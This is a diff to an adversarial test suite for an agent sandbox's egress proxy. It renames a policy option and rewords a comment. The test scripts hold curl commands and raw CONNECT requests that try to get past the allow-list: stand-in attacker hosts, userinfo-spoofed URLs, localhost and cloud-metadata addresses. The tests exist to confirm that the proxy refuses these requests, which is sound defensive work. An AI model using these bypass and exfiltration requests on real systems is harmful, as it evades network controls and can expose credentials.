@@ -203,7 +203,7 @@ describe.skipIf(skipHostile)(
 );
 
 /**
- * With `network: {allow: [...]}` the only way out is AAS's egress proxy. The policy admits one
+ * With the operator's `network: {allow: [...]}` the only way out is AAS's egress proxy. It admits one
  * host server (A, on one port) plus two names; another host server (B) must never be reached,
  * whatever the agent writes in its requests.
  */
@@ -282,7 +282,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       ),
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     expectRefused(run, 'evil.example.com', 443, 'not-in-allow-list');
     expectRefused(run, '127.0.0.1', s.forbidden.port, 'not-in-allow-list');
     expect(refusals(run).every((r) => r.method === 'CONNECT' || r.method === 'GET')).toBe(true);
@@ -298,7 +298,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       'curl -sS -m 5 http://evilallowed.example.com/ 2>&1',
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     expectRefused(run, 'allowed.example.com.evil.example', 80, 'not-in-allow-list');
     expectRefused(run, 'allowed.example.com.evil.example', 443, 'not-in-allow-list');
     expectRefused(run, 'evilallowed.example.com', 80, 'not-in-allow-list');
@@ -317,7 +317,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       `curl -sS -m 5 --noproxy '' "http://allowed.example.com@127.0.0.1:${b}/" 2>&1`,
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     const userinfo = refusals(run).filter((r) => r.reason.startsWith('userinfo-not-allowed:'));
     expect(userinfo.length, JSON.stringify(refusals(run))).toBeGreaterThanOrEqual(2);
     expect(eventsOf(run, 'network.allowed')).toEqual([]);
@@ -335,7 +335,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       ),
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     expectRefused(run, '127.0.0.1', a, 'host-header-mismatch');
     expect(s.allowed.requests.map((r) => r.url)).toEqual([]);
     await finish(s, run, before);
@@ -352,7 +352,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       raw(`CONNECT localhost:${b} HTTP/1.1\r\nHost: localhost:${b}\r\n\r\n`),
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     expectRefused(run, 'localhost', b, 'resolves-to-special-address');
     expect(refusals(run).length).toBeGreaterThanOrEqual(4);
     expect(eventsOf(run, 'network.allowed')).toEqual([]);
@@ -368,7 +368,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       "curl -sS -g -m 5 'http://[fd00:ec2::254]/latest/meta-data/' 2>&1",
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     expectRefused(run, '169.254.169.254', 80, 'not-in-allow-list');
     expectRefused(run, '169.254.169.254', 443, 'not-in-allow-list');
     expectRefused(run, 'fd00:ec2::254', 80, 'not-in-allow-list');
@@ -395,7 +395,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       ),
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     expectRefused(run, '127.0.0.1', b, 'not-in-allow-list');
     expect(refusals(run).length).toBeGreaterThanOrEqual(spellings.length * 2);
     expect(eventsOf(run, 'network.allowed')).toEqual([]);
@@ -415,7 +415,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       ),
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     // The allowed request went through (the proxy works), the one behind it did not.
     const urls = s.allowed.requests.map((r) => r.url);
     expect(urls).toContain('/first');
@@ -437,7 +437,7 @@ describe.skipIf(skipHostile)('adversarial: exfiltration past an egress allow-lis
       ]),
       'echo ok > y.txt',
     ].join('\n');
-    const run = await runHostile(s.env, script, { policy: s.policy });
+    const run = await runHostile(s.env, script, { serverPolicy: s.policy });
     expect(s.allowed.requests.map((r) => r.url)).toEqual(['/via-proxy']);
     await finish(s, run, before);
   });
